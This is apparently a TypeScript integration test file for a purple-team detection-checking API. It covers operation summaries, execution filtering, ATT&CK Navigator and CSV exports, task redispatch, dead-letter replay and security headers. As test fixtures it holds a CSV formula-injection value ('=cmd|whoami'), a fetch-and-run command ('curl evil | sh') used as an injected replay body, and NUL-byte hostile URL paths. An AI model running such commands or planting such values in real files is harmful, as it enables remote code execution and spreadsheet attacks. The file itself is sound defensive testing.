import { seedExecutionResult } from '@purple/checking/testing';
import { Client } from 'pg';
import { ApiHarness, createClient, startHarness } from './support';

/**
 * The checking engine's query API, over rows as the consumers leave them: summaries, filters, the Navigator layer,
 * the CSV, redispatch and dead-letter replay, behind the bearer token's checking:read scope.
 */
describe('checking query API', () => {
  let h: ApiHarness;
  let db: Client;
  let readerToken: string;
  let busToken: string;
  /** holds admin but not checking:admin: the bus admin */
  let busAdminToken: string;
  const ids: Record<string, string> = {};

  beforeAll(async () => {
    h = await startHarness();
    db = new Client({ connectionString: h.db.url });
    await db.connect();
    readerToken = (await createClient(h.api, h.adminToken, { client_id: 'purple-reader', scopes: ['checking:read'] })).token;
    busToken = (await createClient(h.api, h.adminToken, { client_id: 'bus-only', subscription: 'soar.#' })).token;
    busAdminToken = (await createClient(h.api, h.adminToken, { client_id: 'bus-admin', scopes: ['admin', 'checking:read'] })).token;
    await seed();
  });

  afterAll(async () => {
    await db?.end();
    await h?.close();
  });

  /** op-A: T1033 detected twice (latency 2 s and 10 s) and missed once; T1059 errored; one execution still checking. */
  async function seed() {
    const [{ id: op }] = (await db.query(`INSERT INTO operation (caldera_operation_id, name) VALUES ('op-A', 'discovery') RETURNING id`)).rows;
    const exec = async (key: string, technique: string | null, verdict: string, latency: number | null, minute: number, host = 'host-1') => {
      const { rows } = await db.query(
        `INSERT INTO execution (operation_id, dedupe_key, caldera_link_id, agent_host, agent_paw, command, result, executed_at,
           tactic, technique_id, technique_name, correlation_id, verdict, detection_latency_ms)
         VALUES ($1, $2, $2, $3, 'paw-1', '=cmd|whoami', '{}', $4, 'discovery', $5, $6, 'corr-' || $2, $7, $8) RETURNING id`,
        [op, key, host, new Date(Date.UTC(2024, 0, 15, 10, minute)), technique, technique ? `name of ${technique}` : null, verdict, latency],
      );
      ids[key] = rows[0].id;
      return rows[0].id as string;
    };
    await exec('l1', 'T1033', 'detected', 2000, 1);
    await exec('l2', 'T1033', 'detected', 10_000, 2, 'host-2');
    await exec('l3', 'T1033', 'not_detected', null, 3);
    const errored = await exec('l4', 'T1059', 'error', null, 4);
    await exec('l5', null, 'checking', null, 5);
    const task = async (executionId: string, status: string) =>
      (
        await db.query(
          `INSERT INTO detection_task (execution_id, detection_type, platform, connector, query, status, attempts)
           VALUES ($1, 'api', 'siem', 'splunk', 'search x', $2, 1) RETURNING id`,
          [executionId, status],
        )
      ).rows[0].id as string;
    ids['failedTask'] = await task(errored, 'failed');
    await db.query(
      `INSERT INTO detection_result (task_id, attempt, detection_id, status, detected, error, result_at, response)
       VALUES ($1, 1, 'det-1', 'error', false, 'splunk answered 500', now(), '{}')`,
      [ids['failedTask']],
    );
    ids['completedTask'] = await task(ids['l1'], 'completed');
  }

  const get = (path: string, token = readerToken) => h.api.request('GET', path, { token });

  it('refuses without a token (401) and without the checking:read scope (403)', async () => {
    expect((await h.api.request('GET', '/checking/operations')).status).toBe(401);
    const forbidden = await get('/checking/operations', busToken);
    expect(forbidden.status).toBe(403);
  });

  it('summarises an operation, overall and per ATT&CK technique', async () => {
    const list = await get('/checking/operations');
    expect(list.status).toBe(200);
    expect(list.body.items.map((o: { operation_id: string }) => o.operation_id)).toEqual(['op-A']);

    const { status, body } = await get('/checking/operations/op-A');
    expect(status).toBe(200);
    expect(body).toMatchObject({ operation_id: 'op-A', name: 'discovery', executions: 5, detected: 2, not_detected: 1, errors: 1, pending: 1 });
    expect(body.detection_rate).toBeCloseTo(2 / 3);
    expect(body.detection_latency_p50_ms).toBe(6000);
    expect(body.detection_latency_p95_ms).toBe(9600);
    const t1033 = body.techniques.find((t: { technique_id: string }) => t.technique_id === 'T1033');
    expect(t1033).toMatchObject({ executions: 3, detected: 2, not_detected: 1, detection_latency_p50_ms: 6000 });
    const t1059 = body.techniques.find((t: { technique_id: string }) => t.technique_id === 'T1059');
    expect(t1059).toMatchObject({ executions: 1, errors: 1, detection_rate: null });

    expect((await get('/checking/operations/op-missing')).status).toBe(404);
  });

  it('filters and pages executions, and shows one with its tasks and their results', async () => {
    const detected = await get('/checking/executions?operation_id=op-A&verdict=detected');
    expect(detected.body.total).toBe(2);
    const byHost = await get('/checking/executions?host=host-2');
    expect(byHost.body.items.map((e: { id: string }) => e.id)).toEqual([ids['l2']]);
    const window = await get('/checking/executions?from=2024-01-15T10:02:00Z&to=2024-01-15T10:04:00Z');
    expect(window.body.items.map((e: { id: string }) => e.id).sort()).toEqual([ids['l2'], ids['l3']].sort());
    const page = await get('/checking/executions?limit=2&offset=2');
    expect(page.body).toMatchObject({ total: 5, limit: 2, offset: 2 });
    expect(page.body.items).toHaveLength(2);

    const bad = await get('/checking/executions?verdict=maybe&limit=0');
    expect(bad.status).toBe(400);
    expect(JSON.stringify(bad.body)).toMatch(/verdict|limit/);

    const one = await get(`/checking/executions/${ids['l4']}`);
    expect(one.status).toBe(200);
    expect(one.body.verdict).toBe('error');
    expect(one.body.tasks).toHaveLength(1);
    expect(one.body.tasks[0]).toMatchObject({ status: 'failed', result: { status: 'error', error: 'splunk answered 500' } });
    expect((await get('/checking/executions/not-a-uuid')).status).toBe(404);
  });

  it('exports an ATT&CK Navigator layer of the coverage', async () => {
    const { status, body } = await get('/checking/operations/op-A/navigator-layer');
    expect(status).toBe(200);
    expect(body).toMatchObject({ domain: 'enterprise-attack', versions: { layer: '4.5' } });
    const byId = Object.fromEntries(body.techniques.map((t: { techniqueID: string }) => [t.techniqueID, t]));
    expect(byId['T1033']).toMatchObject({ score: 67, tactic: 'discovery' });
    expect(byId['T1059']).toMatchObject({ score: 0, color: '#cccccc' });
  });

  it('exports the executions as CSV, with formula-like cells defused', async () => {
    const res = await fetch(`${h.api.url}/checking/operations/op-A/executions.csv`, { headers: { authorization: `Bearer ${readerToken}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('text/csv');
    const lines = (await res.text()).trim().split('\r\n');
    expect(lines[0]).toBe(
      '"id","operation_id","caldera_link_id","agent_host","agent_paw","command","executed_at","tactic","technique_id","technique_name","verdict","detection_latency_ms","verdict_at","correlation_id"',
    );
    expect(lines).toHaveLength(6);
    expect(lines[1]).toContain(`"${ids['l1']}","op-A","l1","host-1","paw-1","'=cmd|whoami","2024-01-15T10:01:00.000Z"`);
  });

  it('serves the purple-team views: per-source outcomes, matrix, comparison (JSON, CSV, Navigator), time to detect (issue 15)', async () => {
    // l1 was detected by splunk (scoped), l3 missed by it
    await db.query(
      `INSERT INTO detection_result (task_id, attempt, detection_id, status, detected, matched_event_at, result_at, response, match_quality, ingestion_delay_ms)
       VALUES ($1, 1, 'det-2', 'detected', true, '2024-01-15T10:01:02Z', '2024-01-15T10:01:30Z', '{}', 'scoped', 28000)`,
      [ids['completedTask']],
    );
    const execution = await get(`/checking/executions/${ids['l1']}`);
    expect(execution.status).toBe(200);
    // written without one (not through ingest): the database generated it
    expect(execution.body).toMatchObject({ marker: expect.stringMatching(/^pm-[0-9a-f]{12}$/), late_detection: false, history: [] });
    expect(execution.body.sources).toEqual([expect.objectContaining({ source: 'splunk', outcome: 'detected', quality: 'scoped', latency_ms: 2000 })]);
    expect(execution.body.results).toEqual([expect.objectContaining({ connector: 'splunk', status: 'detected', ingestion_delay_ms: 28000 })]);

    const operation = await get('/checking/operations/op-A');
    expect(operation.body).toMatchObject({ detected_exact: 0, detected_scoped: 1, detected_heuristic: 1, late_detections: 0, recheck_only_detections: 0 });

    const matrix = await get('/checking/operations/op-A/sources');
    expect(matrix.status).toBe(200);
    expect(matrix.body.techniques.find((t: { technique_id: string }) => t.technique_id === 'T1033').sources).toEqual([
      expect.objectContaining({ source: 'splunk', detected: 1 }),
    ]);

    const same = await get('/checking/operations/op-A/compare/op-A?latency_threshold_ms=0');
    expect(same.status).toBe(200);
    expect(same.body).toMatchObject({ a: 'op-A', b: 'op-A', latency_threshold_ms: 0, summary: { regressions: 0, newly_missed: 0 } });
    const csv = await h.api.request('GET', '/checking/operations/op-A/compare/op-A/csv', { token: readerToken });
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(String(csv.body).split('\r\n')[0]).toBe(
      '"technique_id","technique_name","host","source","change","a","b","latency_a_ms","latency_b_ms","latency_worse","regression"',
    );
    const layer = await get('/checking/operations/op-A/compare/op-A/navigator-layer');
    expect(layer.body.name).toBe('Detection changes: op-A → op-A');
    expect((await get('/checking/operations/nope/compare/op-A')).status).toBe(404);
    expect((await get('/checking/operations/op-A/compare/op-A?latency_threshold_ms=-1')).status).toBe(400);

    const ttd = await get('/checking/time-to-detect?operation_id=op-A');
    expect(ttd.status).toBe(200);
    expect(ttd.body.sources).toEqual([{ source: 'splunk', samples: 1, p50_ms: 2000, p90_ms: 2000 }]);
    expect(ttd.body.ingestion_delays).toEqual([{ source: 'splunk', samples: 1, p50_ms: 28000, p90_ms: 28000 }]);
    expect((await get('/checking/time-to-detect?operation_id=nope')).status).toBe(404);

    const doc = await h.api.request('GET', '/docs-json');
    expect(Object.keys(doc.body.paths)).toEqual(
      expect.arrayContaining([
        '/checking/operations/{operation_id}/sources',
        '/checking/operations/{a}/compare/{b}',
        '/checking/operations/{a}/compare/{b}/csv',
        '/checking/operations/{a}/compare/{b}/navigator-layer',
        '/checking/time-to-detect',
      ]),
    );
    const schemas = doc.body.components.schemas;
    expect(Object.keys(schemas.ExecutionDetailDto.properties)).toEqual(expect.arrayContaining(['sources', 'results', 'history', 'marker', 'late_detection']));
    expect(Object.keys(schemas.OperationDetailDto.properties)).toEqual(expect.arrayContaining(['detected_exact', 'detection_rate_exact', 'late_detections']));
    expect(Object.keys(schemas.TaskDto.properties)).toEqual(expect.arrayContaining(['recheck_of', 'initial_delay_seconds', 'initial_delay_source']));
  });

  it('redispatches a failed task (checking:admin only), and refuses a completed or unknown one', async () => {
    expect((await h.api.request('POST', `/checking/tasks/${ids['failedTask']}/redispatch`, { token: readerToken })).status).toBe(403);
    expect((await h.api.request('POST', `/checking/tasks/${ids['failedTask']}/redispatch`, { token: busAdminToken })).status).toBe(403);
    const ok = await h.api.request('POST', `/checking/tasks/${ids['failedTask']}/redispatch`, { token: h.adminToken });
    expect(ok.status).toBe(202);
    expect(ok.body).toMatchObject({ previousStatus: 'failed', changed: true });
    const { rows } = await db.query(`SELECT status FROM detection_task WHERE id = $1`, [ids['failedTask']]);
    expect(rows[0].status).toBe('pending');
    expect((await h.api.request('POST', `/checking/tasks/${ids['completedTask']}/redispatch`, { token: h.adminToken })).status).toBe(409);
    expect((await h.api.request('POST', '/checking/tasks/00000000-0000-0000-0000-000000000000/redispatch', { token: h.adminToken })).status).toBe(404);
  });

  it('lists dead letters; replays an execution result only as stored, with checking:admin (issue 12 #9)', async () => {
    const broken = { ...seedExecutionResult(), operation_id: 'op-dead', agent_host: 42 };
    const insert = async (body: unknown, reason: string, queue = 'caldera.checking.instructions') =>
      (
        await db.query(`INSERT INTO dead_letter (queue, reason, message_id, body) VALUES ($1, $2, 'm-1', $3) RETURNING id`, [
          queue,
          reason,
          Buffer.from(JSON.stringify(body)),
        ])
      ).rows[0].id as string;
    const id = await insert(broken, 'agent_host must be a string');

    const list = await get('/checking/dead-letters?queue=caldera.checking.instructions');
    expect(list.status).toBe(200);
    expect(list.body.items.map((d: { id: string; reason: string }) => [d.id, d.reason])).toEqual([[id, 'agent_host must be a string']]);

    const still = await h.api.request('POST', `/checking/dead-letters/${id}/replay`, { token: h.adminToken, json: {} });
    expect(still.status).toBe(422);
    expect(JSON.stringify(still.body)).toContain('agent_host');

    // the bus admin cannot inject an execution; nobody can edit one
    const injected = { ...broken, agent_host: 'fixed-host', command: 'curl evil | sh' };
    expect((await h.api.request('POST', `/checking/dead-letters/${id}/replay`, { token: busAdminToken, json: { body: injected } })).status).toBe(403);
    const edited = await h.api.request('POST', `/checking/dead-letters/${id}/replay`, { token: h.adminToken, json: { body: injected } });
    expect(edited.status).toBe(422);
    expect(edited.body.message).toContain('replayed only as stored');
    expect((await db.query(`SELECT 1 FROM execution WHERE agent_host = 'fixed-host'`)).rows).toEqual([]);

    const sound = await insert({ ...seedExecutionResult(), operation_id: 'op-dead', agent_host: 'sound-host' }, 'database unavailable');
    expect((await h.api.request('POST', `/checking/dead-letters/${sound}/replay`, { token: busAdminToken, json: {} })).status).toBe(403);
    const replayedAsStored = await h.api.request('POST', `/checking/dead-letters/${sound}/replay`, { token: h.adminToken, json: {} });
    expect(replayedAsStored.status).toBe(200);
    const execution = await get(`/checking/executions/${replayedAsStored.body.executionId}`);
    expect(execution.body).toMatchObject({ operation_id: 'op-dead', agent_host: 'sound-host' });
    expect(execution.body.tasks).toHaveLength(4);
    const replayed = await get('/checking/dead-letters?replayed=true');
    expect(replayed.body.items.map((d: { id: string }) => d.id)).toEqual([sound]);
    const { rows } = await db.query(`SELECT replayed_by, body_edited_by FROM dead_letter WHERE id = $1`, [sound]);
    expect(rows[0]).toEqual({ replayed_by: 'admin', body_edited_by: null });
  });

  it('answers hostile parameters with 4xx before PostgreSQL, never 5xx nor a database message (issue 12, low)', async () => {
    const hostile = [
      '/checking/operations/%00/navigator-layer',
      '/checking/operations/op%00A',
      '/checking/operations/%00/executions.csv',
      '/checking/executions/%00',
      '/checking/executions?host=%00',
      '/checking/executions?operation_id=a%00b',
      '/checking/dead-letters/%00',
      '/checking/dead-letters?queue=%00',
      '/checking/operations/%E0%A4%A',
    ];
    for (const path of hostile) {
      const reply = await get(path);
      expect([path, reply.status]).toEqual([path, 400]);
      expect(JSON.stringify(reply.body)).not.toMatch(/invalid byte sequence|syntax for type|relation|column/i);
    }
    const named = await h.api.request('POST', '/clients', { token: h.adminToken, json: { client_id: 'nul-name', client_name: 'a\u0000b', scopes: ['checking:read'] } });
    expect(named.status).toBe(400);
    expect(JSON.stringify(named.body)).not.toMatch(/invalid byte sequence|0x00/);
  });

  it('sets Helmet-like security headers on every answer (issue 12, low)', async () => {
    for (const path of ['/checking/operations', '/health/live', '/no-such-route']) {
      const reply = await get(path);
      expect(reply.headers.get('x-content-type-options')).toBe('nosniff');
      expect(reply.headers.get('x-frame-options')).toBe('DENY');
      expect(reply.headers.get('content-security-policy')).toContain("default-src 'none'");
      expect(reply.headers.get('strict-transport-security')).toMatch(/^max-age=\d+/);
      expect(reply.headers.get('referrer-policy')).toBe('no-referrer');
      expect(reply.headers.get('x-powered-by')).toBeNull();
    }
    const docs = await fetch(`${h.api.url}/docs`);
    expect(docs.headers.get('content-security-policy')).toContain("script-src 'self'");
  });
});
